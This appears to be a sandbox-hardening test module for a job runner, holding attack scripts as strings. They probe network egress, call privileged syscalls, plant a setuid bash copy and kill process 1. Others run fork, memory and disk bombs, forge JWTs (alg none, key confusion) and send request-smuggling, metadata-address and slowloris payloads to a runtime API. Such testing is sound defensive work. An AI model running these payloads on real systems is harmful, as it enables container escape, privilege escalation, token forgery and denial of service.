# ruff: noqa: E501 - scripts of their own, kept short
"""The hostile scripts themselves: each tries all it can and prints what it got, as one JSON object or in lines."""

INNOCENT = """
import json, os, socket, time, urllib.request
listener = socket.create_server(("0.0.0.0", 9000))
listener.settimeout(0.2)
seen = 0
while True:
    try:
        listener.accept()[0].close()
        seen += 1
    except TimeoutError:
        pass
    healthy = urllib.request.urlopen("http://runtime-api:8081/health", timeout=5).status == 200
    print(json.dumps({"time": time.time(), "visitors": seen, "healthy": healthy, "files": os.listdir("/workspace")}),
          flush=True)
"""

REACH = """
import json, socket, struct, sys
targets = json.loads(TARGETS)
answers = {}

def attempt(name, step):
    try:
        step()
        answers[name] = "reached"
    except OSError as error:
        answers[name] = error.strerror or str(error)

def tcp(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.settimeout(0.3)
        one.connect((address, port))

for name, address, port in targets["tcp"]:
    attempt(f"{name} {address}:{port}", lambda: tcp(address, port))
question = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\\x06stolen\\x07example\\x03com\\0" + struct.pack(">2H", 1, 1)
for address in targets["dns"]:
    def ask():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.settimeout(0.3)
            one.sendto(question, (address, 53))
            flags = struct.unpack(">6H", one.recv(512)[:12])[1]
            if flags & 0xF:
                raise OSError(f"answered with code {flags & 0xF}")
    attempt(f"dns {address}", ask)
attempt("resolver", lambda: socket.getaddrinfo("stolen-by-name.example.com", 80))
# What needs no route and waits for no answer: whether it arrived, only the listener can say.
def shout(address, option=None, value=b""):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        if option is not None:
            one.setsockopt(*option, value)
        one.sendto(question, (address, 53))

sent = {}
eth = socket.if_nametoindex("eth0") if "eth0" in dict(map(reversed, socket.if_nameindex())) else 1
for address in ("255.255.255.255", "224.0.0.1", *targets["dns"]):
    for name, option, value in (("plain", None, b""), ("by device", (socket.SOL_SOCKET, 25), b"eth0"),
                                ("by index", (socket.IPPROTO_IP, 50), struct.pack(">I", eth))):
        try:
            shout(address, option, value)
            sent[f"{name} {address}"] = "sent"
        except OSError as error:
            sent[f"{name} {address}"] = error.strerror
import time; time.sleep(1)
with open("/proc/net/route") as file:
    routes = [line.split()[1] for line in file.readlines()[1:]]
print(json.dumps({"answers": answers, "sent": sent, "routes": routes, "links": [name for _, name in socket.if_nameindex()]}))
"""

CALLS = """
import ctypes, errno, json, mmap, os, signal, socket
library = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "io_uring_setup": (425, 1, 0), "io_uring_enter": (426, 0, 0, 0, 0, 0), "ptrace": (101, 0, 0, 0, 0),
    "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "umount2": (166, b"/tmp", 0), "pivot_root": (155, b".", b"."),
    "bpf": (321, 0, 0, 0), "setns": (308, 0, 0), "keyctl": (250, 0, -3, 0, 0, 0), "add_key": (248, 0, 0, 0, 0, 0),
    "request_key": (249, 0, 0, 0, 0), "userfaultfd": (323, 0), "perf_event_open": (298, 0, 0, -1, -1, 0),
    "process_vm_readv": (310, os.getpid(), 0, 0, 0, 0, 0), "kcmp": (312, os.getpid(), os.getpid(), 0, 0, 0),
    "pidfd_getfd": (438, 0, 0, 0), "kexec_load": (246, 0, 0, 0, 0), "init_module": (175, 0, 0, b""),
    "finit_module": (313, 0, b"", 0), "open_by_handle_at": (304, 0, 0, 0), "chroot": (161, b"/tmp"),
    "reboot": (169, 0, 0, 0, 0), "syslog": (103, 3, 0, 0), "swapon": (167, b"/x", 0), "settimeofday": (164, 0, 0),
    "sethostname": (170, b"x", 1), "personality": (135, 0x0040000), "fsopen": (430, b"tmpfs", 0),
    "open_tree": (428, -100, b"/", 1), "clone3": (435, 0, 0), "modify_ldt": (154, 0, 0, 0), "vmsplice": (278, 0, 0, 0, 0),
    "msgget": (68, 0, 0o1600),
}
NUMBERS |= {f"unshare {flag:#x}": (272, flag) for flag in
            (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000, 0x80)}
NUMBERS |= {f"clone {flag:#x}": (56, flag | 17, 0, 0, 0, 0) for flag in (0x20000, 0x10000000, 0x20000000, 0x40000000)}

def call(number, *arguments):
    ctypes.set_errno(0)
    got = library.syscall(ctypes.c_long(number), *(ctypes.c_long(one) if isinstance(one, int) else one for one in arguments))
    if got == 0 and number == 56:
        os._exit(0)  # the child of a clone that worked
    return "done" if got >= 0 else errno.errorcode[ctypes.get_errno()]

def make(*arguments):
    try:
        socket.socket(*arguments).close()
        return "done"
    except OSError as error:
        return errno.errorcode[error.errno]

def in_a_child(step):
    child = os.fork()
    if not child:
        step()
        os._exit(0)
    status = os.waitpid(child, 0)[1]
    return f"signal {signal.Signals(os.WTERMSIG(status)).name}" if os.WIFSIGNALED(status) else "done"

def old_call():
    # getpid of 32 bits: mov eax, 20; int 0x80; ret
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(b"\\xb8\\x14\\0\\0\\0\\xcd\\x80\\xc3")
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()

answers = {name: call(*arguments) for name, arguments in NUMBERS.items()}
kinds = {"vsock": (40, 1), "packet": (17, 3), "alg": (38, 5), "raw": (2, 3, 1), "netlink audit": (16, 3, 9), "sctp": (2, 5),
         "mptcp": (2, 1, 262), "xdp": (44, 3)}
answers |= {f"socket {name}": make(*arguments) for name, arguments in kinds.items()}
machine = os.uname().machine
print(json.dumps({"answers": answers, "machine": machine, "int 0x80": in_a_child(old_call) if machine == "x86_64" else "",
                  "x32": in_a_child(lambda: library.syscall(ctypes.c_long(0x40000000 + 39)))}))
"""

FILES = """
import json, os, shutil, stat, subprocess, sys
found, wrote = [], []
for folder, folders, names in os.walk("/"):
    if folder.split("/")[1] in ("proc", "sys"):
        folders.clear()
        continue
    try:
        with open(os.path.join(folder, "probe-of-writing"), "x"):
            wrote.append(folder)
        os.unlink(os.path.join(folder, "probe-of-writing"))
    except OSError:
        pass
    for name in names:
        path = os.path.join(folder, name)
        try:
            if stat.S_ISREG((status := os.lstat(path)).st_mode) and status.st_mode & 0o6000:
                found.append(path)
        except OSError:
            pass

def opened(path):
    try:
        open(path, "r+b").close()
        return "open"
    except OSError as error:
        return error.strerror

kernel = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger",
          "/proc/kcore", "/dev/mem", "/dev/kmsg", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
          "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/pids.max", "/var/run/docker.sock", "/dev/sda"]
shutil.copy("/bin/bash", "/workspace/rooted")
os.chmod("/workspace/rooted", 0o4755)
run = lambda *words: subprocess.run(words, capture_output=True, text=True, stdin=subprocess.DEVNULL)
ids = {path: run(path, "-p", "-c", "echo $EUID").stdout.strip() for path in ["/workspace/rooted"]}
become = {path: run(path, "-c", "id -u").stdout.strip() for path in found if path.endswith("/su")}
token = os.environ["CRONIUM_EXECUTION_TOKEN"]
environs = {}
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/environ", "rb") as file:
            environs[pid] = token.encode() in file.read()
    except OSError as error:
        environs[pid] = error.strerror
with open("/proc/self/mountinfo") as file:
    mounts = [line.split()[4] for line in file]
print(json.dumps({"wrote": wrote, "kernel": {path: opened(path) for path in kernel}, "ids": ids, "become": become, "setid": found,
                  "environs": environs, "me": os.getpid(), "mounts": mounts}))
"""

PROCESSES = """
import json, os, signal, time
answers = {}
try:
    os.kill(1, signal.SIGKILL)
    answers["kill 1"] = "sent"
except OSError as error:
    answers["kill 1"] = error.strerror
orphans = 0
while orphans < 300:
    try:
        child = os.fork()
    except BlockingIOError:
        time.sleep(0.05)
        continue
    if not child:
        try:
            if not os.fork():
                os._exit(0)  # an orphan, and nobody's zombie but process 1's
        except BlockingIOError:
            os._exit(1)
        os._exit(0)
    orphans += os.waitpid(child, 0)[1] == 0
kept = 0
try:
    while kept < 300:
        if not os.fork():
            os._exit(0)
        kept += 1
except BlockingIOError:
    pass
answers["zombies of mine"] = kept

def zombies_of_init():
    count = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
        except OSError:
            continue
        count += fields[0] == "Z" and fields[1] == "1"
    return count

end = time.monotonic() + 10
while zombies_of_init() and time.monotonic() < end:
    time.sleep(0.05)
answers["zombies of process 1"] = zombies_of_init()
print(json.dumps(answers), flush=True)
os.kill(-1, signal.SIGKILL)
print("still here")
"""

FORK_BOMB = "echo begun; b() { b | b & }; b; sleep 2; b; wait; sleep 30"
MEMORY_BOMB = "held = []\nwhile True:\n    held.append(bytearray(4_000_000))"

FLOOD = """
import json, os
answers = {}
for folder in ("/workspace", "/tmp", "/dev/shm"):
    size, path = 0, folder + "/flood"
    try:
        with open(path, "wb", buffering=0) as file:
            while size < 2_000_000_000:
                size += file.write(b"x" * 1_000_000)
    except OSError as error:
        answers[folder] = [size, error.strerror]
    os.unlink(path)
for folder in ("/workspace", "/tmp"):
    count = 0
    try:
        while count < 100_000:
            os.close(os.open(f"{folder}/f{count}", os.O_CREAT))
            count += 1
    except OSError as error:
        answers["files in " + folder] = [count, error.strerror]
print(json.dumps(answers))
"""

ONE_LINE = "head -c 1G /dev/zero | tr '\\0' x"
BYTES = "printf 'a\\0b\\nc\\377\\376d\\n\\355\\240\\200\\n\\033]0;title\\007\\n\\342\\200\\256desrever\\nno end'"

SIDECAR = """
import base64, hashlib, hmac, json, os, socket, time
own, token = os.environ["CRONIUM_EXECUTION_ID"], os.environ["CRONIUM_EXECUTION_TOKEN"]
others = json.loads(OTHERS)

def raw(data, more=None, wait=20):
    with socket.create_connection(("runtime-api", 8081), 5) as one:
        one.settimeout(wait)
        try:
            one.sendall(data)
            for part in more or ():
                one.sendall(part)
        except OSError:
            pass  # it answered and closed before it had all
        try:
            got = one.recv(4096)
        except OSError:
            return "closed"
    return int(got.split()[1]) if got.startswith(b"HTTP/1.") else "closed"

def get(target, bearer=token, host="runtime-api:8081", extra=""):
    head = f"Authorization: Bearer {bearer}\\r\\n" if bearer is not None else ""
    return raw(f"GET {target} HTTP/1.1\\r\\nHost: {host}\\r\\n{head}{extra}Connection: close\\r\\n\\r\\n".encode())

def part(value):
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

def forged(header, claims, key=b""):
    text = part(header) + "." + part(claims)
    mac = hmac.new(key, text.encode(), hashlib.sha256).digest()
    return text + "." + (base64.urlsafe_b64encode(mac).rstrip(b"=").decode() if header["alg"] != "none" else "")

head, body, signature = token.split(".")
claims = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
path = f"/executions/{own}/input"
later = claims | {"exp": int(time.time()) + 10**6}
tokens = {
    "none at all": None, "empty": "", "alg none": forged({"alg": "none", "typ": "JWT"}, claims),
    "alg none with its signature": part({"alg": "none"}) + f".{body}.{signature}",
    "HS256 by the token": forged({"alg": "HS256"}, claims, token.encode()), "HS256 by nothing": forged({"alg": "HS256"}, claims),
    "kid of a file": forged({"alg": "HS256", "kid": "../../dev/null"}, claims), "longer life": f"{head}.{part(later)}.{signature}",
    "other audience": f"{head}.{part(claims | {'aud': 'cronium'})}.{signature}",
    "expired": f"{head}.{part(claims | {'exp': 1})}.{signature}", "cut": token[:-1], "twice": token + token,
    "lower case": token.lower(), "with a NUL": token + "\\0", "very long": "x" * 10_000,
}
answers = {f"token {name}": get(path, one) for name, one in tokens.items()}
answers |= {f"token of {name}": get(path, one["token"]) for name, one in others.items()}
answers |= {f"way of {name}": get(f"/executions/{one['run']}/input") for name, one in others.items()}
answers |= {f"both of {name}": get(f"/executions/{one['run']}/input", one["token"]) for name, one in others.items()}
tricks = ["//" + path[1:], "/executions//" + own + "/input", path + "/", path + "/..", "/executions/../executions/x/input", path + "%00",
          "/%65xecutions/" + own + "/input", "/executions/" + own + "%2finput", "http://127.0.0.1:22/", "http://169.254.169.254/latest",
          path + "\\\\", path.upper(), "*", "/", "/executions/" + "a" * 5000 + "/input", "/executions/" + own + "/../" + own + "/secrets"]
answers |= {f"target {one[:60]}": get(one) for one in tricks}
post = f"POST /executions/{own}/output HTTP/1.1\\r\\nHost: r\\r\\nAuthorization: Bearer {token}\\r\\nConnection: close\\r\\n"
GB = 10**9
answers["1 GB by length"] = raw(f"{post}Content-Length: {GB}\\r\\n\\r\\n".encode(), (b"x" * 1_000_000 for _ in range(100)))
chunk = b"f4240\\r\\n" + b"x" * 1_000_000 + b"\\r\\n"
answers["1 GB in chunks"] = raw(f"{post}Transfer-Encoding: chunked\\r\\n\\r\\n".encode(), (chunk for _ in range(100)))
for name, deep in {"lists": b"[" * 100_000 + b"]" * 100_000, "objects": b'{"a":' * 100_000 + b"1" + b"}" * 100_000}.items():
    answers["deep " + name] = raw(f"{post}Content-Length: {len(deep)}\\r\\n\\r\\n".encode() + deep)
answers["two lengths"] = raw(f"{post}Content-Length: 2\\r\\nContent-Length: 3\\r\\n\\r\\n12".encode())
answers["length and chunks"] = raw(f"{post}Content-Length: 2\\r\\nTransfer-Encoding: gzip\\r\\n\\r\\n12".encode())
answers["negative length"] = raw(f"{post}Content-Length: -1\\r\\n\\r\\n".encode())
answers["endless head"] = raw(b"GET / HTTP/1.1\\r\\nX: " + b"x" * 1_000_000)
answers["many heads"] = raw(b"GET / HTTP/1.1\\r\\n" + b"X: y\\r\\n" * 100_000 + b"\\r\\n")
answers["no HTTP"] = raw(b"\\x16\\x03\\x01\\0\\xff" + os.urandom(500) + b"\\r\\n\\r\\n")
slow = [socket.create_connection(("runtime-api", 8081), 5) for _ in range(80)]
begun = time.monotonic()
for one in slow:
    try:
        one.sendall(b"GET /health HTTP/1.1\\r\\nX: ")
    except OSError:
        pass
closed = 0
while time.monotonic() < begun + 30 and closed < len(slow):
    for one in list(slow):
        one.settimeout(0.01)
        try:
            one.sendall(b"y")
            if one.recv(4096):
                continue
        except TimeoutError:
            continue
        except OSError:
            pass
        closed += 1
        slow.remove(one)
fine = {"slow closed": closed, "health": get("/health", None), "input": get(path)}
print(json.dumps({"answers": answers, "fine": fine}), flush=True)
time.sleep(60)
"""
